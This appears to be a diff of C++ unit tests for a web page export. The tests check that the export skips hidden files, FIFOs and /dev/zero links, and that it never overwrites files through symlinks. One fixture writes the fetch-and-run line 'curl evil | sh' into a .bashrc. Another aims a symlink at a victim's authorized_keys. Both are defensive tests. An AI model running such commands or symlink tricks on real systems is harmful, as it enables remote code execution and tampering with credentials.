@@ -25,7 +25,7 @@ std::string imageRecord(const std::string &file)
 std::string contentOf(const std::string &path)
 {
     std::string bytes;
-    readWholeFile(path, bytes);
+    bytes = readWholeFile(path).valueOr({});
     return bytes;
 }
 
@@ -39,8 +39,8 @@ struct PageFolder : ::testing::Test {
     {
         fs::create_directories(dir.file("proj/sub"));
         fs::create_directories(dir.file("web"));
-        ASSERT_TRUE(writeWholeFile(dir.file("proj/site.stv"), "PROJECT").ok);
-        ASSERT_TRUE(writeWholeFile(dir.file("proj/pic.png"), pngBytes("PIC")).ok);
+        ASSERT_TRUE(writeWholeFile(dir.file("proj/site.stv"), "PROJECT").ok());
+        ASSERT_TRUE(writeWholeFile(dir.file("proj/pic.png"), pngBytes("PIC")).ok());
         project.sections = { imageRecord("pic.png"), imageRecord("missing.png") };
         request.importRequested = true;
         request.sourceFolder = dir.file("proj");
@@ -58,7 +58,7 @@ struct PageFolder : ::testing::Test {
 // A page that cannot be written stops everything before the first copy, with the reason.
 TEST_F(PageFolder, NothingIsCopiedWhenThePageCannotBeWritten)
 {
-    ASSERT_TRUE(writeWholeFile(dir.file("afile"), "x").ok);
+    ASSERT_TRUE(writeWholeFile(dir.file("afile"), "x").ok());
     ASSERT_TRUE(makeHostile(Hostile::Fifo, dir.file("web/fifo.html")));
     const struct {
         std::string page;
@@ -75,8 +75,8 @@ TEST_F(PageFolder, NothingIsCopiedWhenThePageCannotBeWritten)
         request.pageFile = c.page;
         FakeCopier copier;
         const PageResult r = write(copier);
-        EXPECT_FALSE(r.ok);
-        EXPECT_EQ(r.error, "Cannot create file " + c.page + ": " + c.reason);
+        EXPECT_FALSE(r.ok());
+        EXPECT_EQ(r.error(), "Cannot create file " + c.page + ": " + c.reason);
         EXPECT_TRUE(copier.calls.empty());
     }
     EXPECT_EQ(typeAt(dir.file("web/fifo.html")), unsigned(S_IFIFO));
@@ -98,24 +98,26 @@ TEST_F(PageFolder, FailedCopiesAreReportedWhenThePageFailsLast)
     } copier;
     copier.page = request.pageFile;
     const PageResult r = write(copier);
-    EXPECT_FALSE(r.ok);
-    EXPECT_EQ(r.error.rfind("Cannot create file " + request.pageFile + ": ", 0), 0u) << r.error;
-    ASSERT_EQ(r.copyFailures.size(), 1u);
-    EXPECT_NE(r.copyFailures[0].find("missing.png"), std::string::npos);
+    EXPECT_FALSE(r.ok());
+    EXPECT_EQ(r.error().rfind("Cannot create file " + request.pageFile + ": ", 0), 0u) << r.error();
+    EXPECT_NE(
+        r.error().find("These files could not be copied either:\n\nmissing: "), std::string::npos)
+        << r.error();
+    EXPECT_NE(r.error().find("missing.png"), std::string::npos);
 }
 
 // Pictures named like the project or the page are not copied over them, and a link in the
 // page folder is replaced, never written through. A FIFO there is refused.
 TEST_F(PageFolder, CopiesNeverReplaceTheProjectThePageOrALinksTarget)
 {
-    ASSERT_TRUE(writeWholeFile(dir.file("proj/sub/site.stv"), "NOT THE PROJECT").ok);
-    ASSERT_TRUE(writeWholeFile(dir.file("proj/sub/index.html"), "NOT THE PAGE").ok);
-    ASSERT_TRUE(writeWholeFile(dir.file("victim"), "VICTIM").ok);
+    ASSERT_TRUE(writeWholeFile(dir.file("proj/sub/site.stv"), "NOT THE PROJECT").ok());
+    ASSERT_TRUE(writeWholeFile(dir.file("proj/sub/index.html"), "NOT THE PAGE").ok());
+    ASSERT_TRUE(writeWholeFile(dir.file("victim"), "VICTIM").ok());
     fs::create_symlink(dir.file("victim"), dir.file("proj/linked.png"));
     fs::create_directories(dir.file("elsewhere"));
-    ASSERT_TRUE(writeWholeFile(dir.file("elsewhere/linked.png"), pngBytes("LINKED")).ok);
+    ASSERT_TRUE(writeWholeFile(dir.file("elsewhere/linked.png"), pngBytes("LINKED")).ok());
     ASSERT_TRUE(makeHostile(Hostile::Fifo, dir.file("proj/pipe.png")));
-    ASSERT_TRUE(writeWholeFile(dir.file("proj/sub/pipe.png"), pngBytes("P")).ok);
+    ASSERT_TRUE(writeWholeFile(dir.file("proj/sub/pipe.png"), pngBytes("P")).ok());
 
     // The page beside the project, as the command line writes it by default.
     request.pageFile = dir.file("proj/index.html");
@@ -123,11 +125,13 @@ TEST_F(PageFolder, CopiesNeverReplaceTheProjectThePageOrALinksTarget)
         imageRecord(dir.file("elsewhere/linked.png")), imageRecord("sub/pipe.png") };
     DiskCopier copier;
     const PageResult r = write(copier);
-    ASSERT_TRUE(r.ok) << r.error;
-    ASSERT_EQ(r.copyFailures.size(), 3u);
-    EXPECT_NE(r.copyFailures[0].find("it would replace the project file"), std::string::npos);
-    EXPECT_NE(r.copyFailures[1].find("it would replace the page itself"), std::string::npos);
-    EXPECT_NE(r.copyFailures[2].find("pipe.png: it is a FIFO"), std::string::npos);
+    ASSERT_TRUE(r.ok()) << r.error();
+    ASSERT_EQ(r.value().copyFailures.size(), 3u);
+    EXPECT_NE(
+        r.value().copyFailures[0].find("it would replace the project file"), std::string::npos);
+    EXPECT_NE(
+        r.value().copyFailures[1].find("it would replace the page itself"), std::string::npos);
+    EXPECT_NE(r.value().copyFailures[2].find("pipe.png: it is a FIFO"), std::string::npos);
     EXPECT_EQ(contentOf(dir.file("proj/site.stv")), "PROJECT");
     EXPECT_EQ(contentOf(dir.file("proj/index.html")).substr(0, 6), "<HTML>");
     EXPECT_EQ(contentOf(dir.file("victim")), "VICTIM");
@@ -145,12 +149,14 @@ TEST_F(PageFolder, OnlyRegularFilesAreCopied)
     ASSERT_TRUE(makeHostile(Hostile::LinkToZero, dir.file("proj/zero.png")));
     project.sections = { imageRecord("fifo.png"), imageRecord("zero.png") };
     DiskCopier copier;
-    PageResult r;
+    PageResult r = fail("not written");
     printSecondsFor("a page over a FIFO and /dev/zero", [&] { r = write(copier); });
-    ASSERT_TRUE(r.ok);
-    ASSERT_EQ(r.copyFailures.size(), 2u);
-    EXPECT_NE(r.copyFailures[0].find("fifo.png: it is not a regular file"), std::string::npos);
-    EXPECT_NE(r.copyFailures[1].find("zero.png: it is not a regular file"), std::string::npos);
+    ASSERT_TRUE(r.ok());
+    ASSERT_EQ(r.value().copyFailures.size(), 2u);
+    EXPECT_NE(
+        r.value().copyFailures[0].find("fifo.png: it is not a regular file"), std::string::npos);
+    EXPECT_NE(
+        r.value().copyFailures[1].find("zero.png: it is not a regular file"), std::string::npos);
     EXPECT_EQ(typeAt(dir.file("web/fifo.png")), 0u);
     EXPECT_EQ(typeAt(dir.file("web/zero.png")), 0u);
 }
@@ -167,14 +173,14 @@ std::string soundRecord(const std::string &file)
 TEST_F(PageFolder, OnlyPicturesAndSoundsAreCopied)
 {
     fs::create_directories(dir.file("skel"));
-    ASSERT_TRUE(writeWholeFile(dir.file("skel/.bashrc"), "curl evil | sh\n").ok);
-    ASSERT_TRUE(writeWholeFile(dir.file("web/.bashrc"), "MINE").ok);
-    ASSERT_TRUE(writeWholeFile(dir.file("proj/StvLinkList"), pngBytes("LIST")).ok);
-    ASSERT_TRUE(writeWholeFile(dir.file("web/StvLinkList"), "https://mine/").ok);
-    ASSERT_TRUE(writeWholeFile(dir.file("proj/notes.txt"), "text").ok);
-    ASSERT_TRUE(writeWholeFile(dir.file("proj/song.wav"), wavBytes("SONG")).ok);
-    ASSERT_TRUE(writeWholeFile(dir.file("proj/tone.wav"), wavBytes("TONE")).ok);
-    ASSERT_TRUE(writeWholeFile(dir.file("proj/shown.png"), pngBytes("SHOWN")).ok);
+    ASSERT_TRUE(writeWholeFile(dir.file("skel/.bashrc"), "curl evil | sh\n").ok());
+    ASSERT_TRUE(writeWholeFile(dir.file("web/.bashrc"), "MINE").ok());
+    ASSERT_TRUE(writeWholeFile(dir.file("proj/StvLinkList"), pngBytes("LIST")).ok());
+    ASSERT_TRUE(writeWholeFile(dir.file("web/StvLinkList"), "https://mine/").ok());
+    ASSERT_TRUE(writeWholeFile(dir.file("proj/notes.txt"), "text").ok());
+    ASSERT_TRUE(writeWholeFile(dir.file("proj/song.wav"), wavBytes("SONG")).ok());
+    ASSERT_TRUE(writeWholeFile(dir.file("proj/tone.wav"), wavBytes("TONE")).ok());
+    ASSERT_TRUE(writeWholeFile(dir.file("proj/shown.png"), pngBytes("SHOWN")).ok());
     lists.images = { imageRecord(dir.file("skel/.bashrc")) }; // a picture mark's entry
     project.backgroundImage = "notes.txt";
     project.sections = { imageRecord(dir.file("skel/.bashrc")), imageRecord("StvLinkList"),
@@ -183,7 +189,7 @@ TEST_F(PageFolder, OnlyPicturesAndSoundsAreCopied)
         Rec({ "Paragraph", "p", "{i0}", "2", "0", "0", "0", "0", "0", "", "0", "" }) };
     DiskCopier copier;
     const PageResult r = write(copier);
-    ASSERT_TRUE(r.ok) << r.error;
+    ASSERT_TRUE(r.ok()) << r.error();
     const std::vector<std::string> expected = {
         "not a picture: " + dir.file("proj/notes.txt"),
         "a hidden file: " + dir.file("skel/.bashrc"),
@@ -192,7 +198,7 @@ TEST_F(PageFolder, OnlyPicturesAndSoundsAreCopied)
         "not a picture: " + dir.file("proj/song.wav"),
         "not a sound: " + dir.file("proj/shown.png"),
     };
-    EXPECT_EQ(r.copyFailures, expected);
+    EXPECT_EQ(r.value().copyFailures, expected);
     EXPECT_EQ(contentOf(dir.file("web/.bashrc")), "MINE");
     EXPECT_EQ(contentOf(dir.file("web/StvLinkList")), "https://mine/");
     for (const char *name : { "site.stv", "notes.txt", "song.wav", "shown.png" })
@@ -207,10 +213,10 @@ TEST_F(PageFolder, OnlyPicturesAndSoundsAreCopied)
 TEST_F(PageFolder, ALinkAtThePagesPlaceIsReplaced)
 {
     fs::create_directories(dir.file("victim/.ssh"));
-    ASSERT_TRUE(writeWholeFile(dir.file("victim/.ssh/authorized_keys"), "ssh-ed25519 AAAA").ok);
+    ASSERT_TRUE(writeWholeFile(dir.file("victim/.ssh/authorized_keys"), "ssh-ed25519 AAAA").ok());
     fs::create_symlink("../victim/.ssh/authorized_keys", dir.file("web/index.html"));
     FakeCopier copier;
-    ASSERT_TRUE(write(copier).ok);
+    ASSERT_TRUE(write(copier).ok());
     EXPECT_EQ(contentOf(dir.file("victim/.ssh/authorized_keys")), "ssh-ed25519 AAAA");
     EXPECT_EQ(typeAt(dir.file("web/index.html")), unsigned(S_IFREG));
     EXPECT_EQ(contentOf(dir.file("web/index.html")).substr(0, 6), "<HTML>");
